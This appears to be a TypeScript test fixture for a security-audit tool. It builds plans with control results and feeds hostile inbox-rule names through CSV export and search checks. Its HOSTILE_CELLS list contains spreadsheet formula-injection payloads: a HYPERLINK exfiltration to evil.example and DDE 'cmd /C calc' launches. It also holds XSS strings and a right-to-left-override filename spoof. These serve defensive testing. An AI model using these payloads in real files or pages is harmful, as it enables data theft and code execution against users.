import { createHash } from 'node:crypto';
import { resolveControl } from '../../policies/catalogue.js';
import { isUnsafeCodePoint } from '../../reconciler/core/text.js';
import type { Owner } from '../../reconciler/manifest/schema.js';
import type { Finding } from '../../reconciler/model/finding.js';
import { ACTIONABLE } from '../../reconciler/model/finding.js';
import type { ControlResult, ControlResultKind, PlanDocument } from '../../reconciler/model/plan.js';
import { resourceType } from '../../reconciler/resources/registry.js';
import { driftedFindings, finding, identity, INCOMPLETE_READ, mailPlatform, makePlan, secOps } from './fixtures.js';

/**
 * Plans that carry each declared control's result (passed, failed, excepted, not evaluated), and
 * tenant strings chosen to break a CSV export or a search box: formulas, quotes, commas, line
 * breaks, markup and bidirectional characters.
 */

/** Inbox rule names an attacker could choose, each aimed at a spreadsheet or a page. */
export const HOSTILE_CELLS: readonly string[] = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click to fix")',
  '+cmd|\' /C calc\'!A0',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+9)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
  'quote " and, comma',
  'two\r\nlines',
  '</script><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  'invoice\u202Etxt.exe',
  'bell\u0007esc\u001b[31m',
];

/** An inbox rule finding of MAIL.FWD.4 whose rule has the given name. */
export function hostileFinding(name: string, owner: Owner = secOps): Finding {
  return finding({
    control: 'MAIL.FWD.4',
    check: 'inbox-rule-forward-external',
    resource: { type: 'inboxRule', id: `rule-${createHash('sha256').update(name).digest('hex').slice(0, 8)}`, name },
    owner,
    status: 'violation',
    mode: 'remediate',
    summary: `Inbox rule "${name}" of jamie.lee@tailspintoys.example forwards every message to drop@freemail.example.`,
    patch: [{ op: 'remove', path: '' }],
    change: { action: 'delete', automatic: true },
    evidence: { endpoint: 'GET /users/jamie.lee@tailspintoys.example/mailFolders/inbox/messageRules', live: { displayName: name } },
  });
}

/** One control's result as the evaluation writes it: title, severity, checks and reads from the catalogue. */
export function controlResult(id: string, result: ControlResultKind, owner: Owner, extra: { findings?: number; notEvaluated?: string } = {}): ControlResult {
  const resolved = resolveControl(id);
  if ('error' in resolved) throw new Error(resolved.error);
  const c = resolved.control;
  return {
    control: { id: c.id, version: c.version, versionedId: `${c.id}v${c.version}`, title: c.title },
    severity: c.severity,
    owner,
    mode: 'report',
    result,
    checks: c.checks.map((k) => ({ id: k.id, description: k.description })),
    reads: c.resources.read.map((k) => resourceType(k).title),
    findings: extra.findings ?? 0,
    ...(extra.notEvaluated ? { notEvaluated: extra.notEvaluated } : {}),
  };
}

/** The controls that passed in the plans below, and their owners. */
export const PASSED: ReadonlyArray<readonly [string, Owner]> = [
  ['MAIL.SPF.1', mailPlatform],
  ['MAIL.FWD.2', mailPlatform],
  ['ID.CA.1', identity],
  ['APP.CONSENT.2', identity],
];

/** A control no check could judge although every read succeeded. */
export const UNJUDGED = ['MAIL.DMARC.3', 'tailspintoys.example has no valid DMARC record to judge (MAIL.DMARC.1)'] as const;

/** The result of every control the findings name, from their statuses, then the passed ones and one not evaluated. */
export function controlsOf(findings: readonly Finding[]): ControlResult[] {
  const out: ControlResult[] = [];
  const seen = new Set<string>();
  for (const f of findings) {
    if (seen.has(f.control.id)) continue;
    seen.add(f.control.id);
    const own = findings.filter((g) => g.control.id === f.control.id);
    const result: ControlResultKind = own.some((g) => ACTIONABLE.includes(g.status)) ? 'failed' : own.some((g) => g.status === 'not-evaluated') ? 'not-evaluated' : 'excepted';
    const why = own.find((g) => g.status === 'not-evaluated')?.notEvaluated?.detail;
    out.push(controlResult(f.control.id, result, f.owner, { findings: own.length, ...(result === 'not-evaluated' && why ? { notEvaluated: why } : {}) }));
  }
  for (const [id, owner] of PASSED) out.push(controlResult(id, 'passed', owner));
  out.push(controlResult(UNJUDGED[0], 'not-evaluated', mailPlatform, { notEvaluated: UNJUDGED[1] }));
  return out;
}

/** A plan around the findings, with the result of every control. */
export function planWithControls(findings: readonly Finding[], incomplete = [INCOMPLETE_READ]): PlanDocument {
  return { ...makePlan(findings, incomplete), controls: controlsOf(findings) };
}

/** The drifted tenant, with one inbox rule finding per hostile name, and every control's result. */
export function hostilePlan(): PlanDocument {
  return planWithControls([...driftedFindings(), ...HOSTILE_CELLS.map((name) => hostileFinding(name))]);
}

/** Parses CSV as RFC 4180 reads it: quoted fields, doubled quotes, CRLF or LF between records. */
export function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"' && cell === '') quoted = true;
    else if (ch === ',') {
      record.push(cell);
      cell = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      record.push(cell);
      records.push(record);
      record = [];
      cell = '';
      i++;
    } else if (ch === '\n') {
      record.push(cell);
      records.push(record);
      record = [];
      cell = '';
    } else cell += ch;
  }
  if (cell !== '' || record.length > 0) {
    record.push(cell);
    records.push(record);
  }
  return records;
}

/** Whether text holds a raw control or bidirectional character other than tab, CR and LF. */
export const hasUnsafeCharacter = (text: string): boolean => [...text].some((ch) => !'\t\r\n'.includes(ch) && isUnsafeCodePoint(ch.codePointAt(0)!));
